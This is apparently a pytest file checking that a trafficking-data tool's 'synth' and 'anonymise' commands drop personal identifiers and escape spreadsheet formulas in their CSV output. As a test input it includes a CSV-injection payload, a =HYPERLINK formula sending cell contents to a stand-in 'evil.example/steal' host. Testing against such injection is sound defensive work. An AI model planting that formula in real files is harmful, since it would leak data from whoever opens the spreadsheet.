"""Issue 17, points 1 and 4: ``synth`` and ``anonymise`` drop direct identifiers and free text
unless the user names them (``--keep``), and their CSVs hold no live spreadsheet formula."""

from __future__ import annotations

import shutil

import pandas as pd
import pytest

from htwork.cli import main
from htwork.release import scan

from .conftest import IDENTIFIER_COLUMNS, identifier_cells, output_cells

#: Columns that keep the synthesis quick; every identifier column of the extract is added.
SOME = ["prs_Gender", "prs_Citizenship", "vic_TraffickingStatus", "org_Type"]


def test_synth_copies_no_identifier_of_a_150_record_extract(extract150, tmp_path, capsys):
    """Point 1: before, 85 first names, 58 phones, 39 ID numbers, 17 e-mails, 45 addresses and
    91 notes were copied word for word (no column had more than 200 values)."""
    out = tmp_path / "syn.csv"
    assert main(["synth", str(extract150), "--seed", "1", "--out", str(out),
                 "--columns", *SOME, *IDENTIFIER_COLUMNS]) == 0
    syn = pd.read_csv(out, dtype=str)
    assert not set(syn.columns) & set(IDENTIFIER_COLUMNS)
    assert list(syn.columns) == SOME
    assert not identifier_cells(extract150) & output_cells(out)
    assert scan(tmp_path, extract150).ok
    assert "left out 9 column(s)" in capsys.readouterr().out


def test_synth_does_not_copy_aliases(extract150, tmp_path, capsys):
    """Point 1: with ``--columns prs_Gender prs_Citizenship prs_Aliases`` 130 of 156 aliases
    were copied."""
    out = tmp_path / "syn.csv"
    assert main(["synth", str(extract150), "--seed", "2", "--out", str(out),
                 "--columns", "prs_Gender", "prs_Citizenship", "prs_Aliases"]) == 0
    syn = pd.read_csv(out, dtype=str)
    assert list(syn.columns) == ["prs_Gender", "prs_Citizenship"]
    assert "prs_Aliases" in capsys.readouterr().out


def test_synth_keeps_what_the_user_names(extract150, tmp_path):
    out = tmp_path / "syn.csv"
    assert main(["synth", str(extract150), "--seed", "2", "--out", str(out),
                 "--columns", "prs_Gender", "prs_Citizenship", "prs_Aliases",
                 "--keep", "prs_Aliases"]) == 0
    assert "prs_Aliases" in pd.read_csv(out, dtype=str).columns


def test_synth_refuses_when_only_identifiers_are_left(extract150, tmp_path, capsys):
    out = tmp_path / "syn.csv"
    assert main(["synth", str(extract150), "--seed", "1", "--out", str(out),
                 "--columns", "prs_FirstName", "prs_MobilePhone"]) == 2
    assert "nothing is left to synthesise" in capsys.readouterr().err
    assert not out.exists()


def test_synthesizer_keep_parameter(extract150):
    from htwork.io import read_table
    from htwork.synth import make_synthesizer

    df = read_table(extract150, columns=["prs_Gender", "prs_Citizenship", "prs_Email"])
    with pytest.warns(UserWarning, match="prs_Email"):
        syn = make_synthesizer("independent").fit(df)
    assert syn.dropped_ == ["prs_Email"]
    assert list(syn.sample(10, seed=0).columns) == ["prs_Gender", "prs_Citizenship"]
    kept = make_synthesizer("independent", keep=["prs_Email"]).fit(df)
    assert kept.dropped_ == []
    assert "prs_Email" in kept.sample(10, seed=0).columns


def test_anonymise_drops_identifiers_with_a_note(extract150, tmp_path, capsys):
    """Point 4: ``anonymise`` kept all the columns, names, phones, IDs and notes included,
    with no warning."""
    out = tmp_path / "anon.csv"
    assert main(["anonymise", str(extract150), "--quasi", "prs_Gender,prs_Citizenship",
                 "--k", "2", "--out", str(out)]) == 0
    df = pd.read_csv(out, dtype=str)
    assert not set(df.columns) & set(IDENTIFIER_COLUMNS)
    assert not identifier_cells(extract150) & output_cells(out)
    err = capsys.readouterr().err
    assert "dropped 10 column(s)" in err and "cas_Notes" in err


def test_anonymise_keep(extract150, tmp_path):
    out = tmp_path / "anon.csv"
    assert main(["anonymise", str(extract150), "--quasi", "prs_Gender,prs_Citizenship",
                 "--k", "2", "--keep", "prs_Aliases", "--out", str(out)]) == 0
    assert "prs_Aliases" in pd.read_csv(out, dtype=str).columns


def test_drop_identifiers_keep_parameter(extract150):
    from htwork.anonymise import DropIdentifiers
    from htwork.io import read_table

    df = read_table(extract150)
    assert "prs_Aliases" in DropIdentifiers().fit(df).columns_
    assert "prs_Aliases" not in DropIdentifiers(keep=["prs_Aliases"]).fit(df).columns_


FORMULAS = ['=HYPERLINK("http://evil.example/steal?d="&A1,"click")', "=1+1", "+1+1",
            "@SUM(A1:A9)"]


@pytest.mark.parametrize("command", ["anonymise", "synth"])
def test_outputs_hold_no_live_formula(extract150, tmp_path, command):
    """Point 4: ``anonymise`` and ``synth`` wrote ``=HYPERLINK(...)``, ``=1+1``, ``+1+1``,
    ``@SUM(...)`` unescaped, so a spreadsheet would run them."""
    src = tmp_path / "in.csv"
    df = pd.read_csv(extract150, dtype=str, keep_default_na=False)
    n = len(df)
    # a categorical column that both commands keep: each formula on a quarter of the rows
    df["vic_TraffickingStatus"] = [FORMULAS[i % 4] for i in range(n)]
    df["vic_AgeWhenTrafficked"] = ["-5" if i % 2 else "+3.2" for i in range(n)]
    df.to_csv(src, index=False)
    out = tmp_path / "out.csv"
    if command == "anonymise":
        argv = ["anonymise", str(src), "--quasi", "prs_Gender", "--k", "2", "--out", str(out)]
    else:
        argv = ["synth", str(src), "--seed", "3", "--out", str(out), "--method", "independent",
                "--columns", "prs_Gender", "vic_TraffickingStatus", "vic_AgeWhenTrafficked"]
    assert main(argv) == 0
    text = out.read_text(encoding="utf-8")
    cells = output_cells(out)
    for formula in FORMULAS:
        assert formula not in cells
    assert {"'" + f for f in FORMULAS} & cells
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "@")), line
    assert {"-5", "+3.2"} & cells  # signed numbers stay numbers


def test_inputs_untouched(extract150, tmp_path):
    src = tmp_path / "in.csv"
    shutil.copy(extract150, src)
    before = src.read_bytes()
    main(["anonymise", str(src), "--quasi", "prs_Gender", "--k", "2",
          "--out", str(tmp_path / "a.csv")])
    assert src.read_bytes() == before
